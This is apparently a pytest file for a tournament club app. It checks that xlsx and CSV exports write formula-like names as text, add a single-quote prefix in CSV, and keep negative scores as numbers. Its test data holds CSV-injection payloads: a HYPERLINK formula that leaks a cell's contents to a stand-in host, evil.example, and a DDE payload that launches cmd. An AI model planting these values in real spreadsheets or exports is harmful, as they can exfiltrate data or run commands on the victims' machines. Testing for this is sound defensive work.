"""Exports cannot run code (issue 21, finding 6): formula-like text is text, numbers numbers.

A member or guest named ``=HYPERLINK(…)`` comes out of every xlsx export as a string
cell (never a formula) and out of every CSV with OWASP's single-quote prefix; a negative
score stays a number. The member import reads the quoted CSV back to the same name.
"""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from tests.factories import MemberFactory
from tournaments.clubs.imports.members import member_import_preview
from tournaments.core.cells import csv_text, csv_unquote, is_formula_like
from tournaments.core.exports.renderers import render
from tournaments.events.models import Event
from tournaments.play.models import Seat
from tournaments.reports.exporters import (
    EventHandsExporter,
    EventStandingsExporter,
    MembersExporter,
)
from tournaments.reports.selectors.results import event_report

pytestmark = pytest.mark.django_db

NASTY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Anna", "van der Berg", "1+1=2", "'quoted", "é=ok", ""]


@pytest.mark.parametrize(
    ("text", "formula_like"),
    [*((t, True) for t in NASTY), *((t, False) for t in HARMLESS)],
)
def test_the_helper_knows_a_formula_and_round_trips_csv(text, formula_like):
    assert is_formula_like(text) is formula_like
    assert (csv_text(text) == "'" + text) is formula_like
    assert csv_unquote(csv_text(text)) == text


@pytest.mark.parametrize("text", ["'=1+1", "''@x", "'-"])
def test_a_quote_before_a_formula_survives_the_round_trip(text):
    assert csv_text(text) == "'" + text
    assert csv_unquote(csv_text(text)) == text


@pytest.mark.parametrize("value", [-8, -1.5, 0, 12])
def test_numbers_are_never_formula_like(value):
    assert not is_formula_like(value)


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def _xlsx_rows(content: bytes):
    return list(load_workbook(io.BytesIO(content)).active.iter_rows())


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture
def nasty_club(demo):
    for index, name in enumerate(NASTY):
        MemberFactory(club=demo, first_name=name, last_name=name, member_number=f"X{index}")
    return demo


def test_members_xlsx_writes_names_as_text(nasty_club):
    content = render(MembersExporter(nasty_club), "xlsx")[0]
    assert "<f>" not in _sheet_xml(content)
    cells = {row[0].value: row[1] for row in _xlsx_rows(content)[1:]}
    for index, name in enumerate(NASTY):
        cell = cells[f"X{index}"]
        # (XML reads a lone carriage return back as a line feed)
        assert (cell.data_type, cell.value.replace("\n", "\r")) == ("s", name)


def test_members_csv_prefixes_names_and_imports_them_back(nasty_club):
    content = render(MembersExporter(nasty_club), "csv")[0]
    fields = {row[0]: row for row in _csv_rows(content)[1:]}
    for index, name in enumerate(NASTY):
        assert fields[f"X{index}"][1] == "'" + name
    preview = member_import_preview(club=nasty_club, data=content, filename="members.csv")
    imported = {r.values["member_number"]: r.values["first_name"] for r in preview.rows}
    # the import trims surrounding white space, so tab/CR names come back trimmed
    assert [imported[f"X{i}"] for i in range(len(NASTY))] == [n.strip() for n in NASTY]


def test_guest_names_are_text_and_negative_scores_numbers(demo):
    event = Event.objects.select_related("club").get(slug="demo-evening")
    seat = Seat.objects.filter(table__round__event=event).first()
    seat.member, seat.guest_name = None, "=1+1"
    seat.save()
    report = event_report(event=event)

    standings = _xlsx_rows(render(EventStandingsExporter(report), "xlsx", lang="en")[0])
    names = [row[1] for row in standings[1:]]
    assert any(c.value == "=1+1" and c.data_type == "s" for c in names)
    scores = [row[4] for row in standings[1:]]
    assert any(c.value < 0 for c in scores)
    assert all(c.data_type == "n" and c.number_format == "0" for c in scores)

    hands = _xlsx_rows(render(EventHandsExporter(event), "xlsx", lang="en")[0])
    assert any(row[5].value == "=1+1" and row[5].data_type == "s" for row in hands[1:])
    assert "<f>" not in _sheet_xml(render(EventHandsExporter(event), "xlsx", lang="en")[0])

    rows = _csv_rows(render(EventStandingsExporter(report), "csv", lang="en")[0])
    assert "'=1+1" in [row[1] for row in rows[1:]]
    negative = [row[4] for row in rows[1:] if row[4].startswith("-")]
    assert negative and all(int(score) < 0 for score in negative)  # a number, no quote
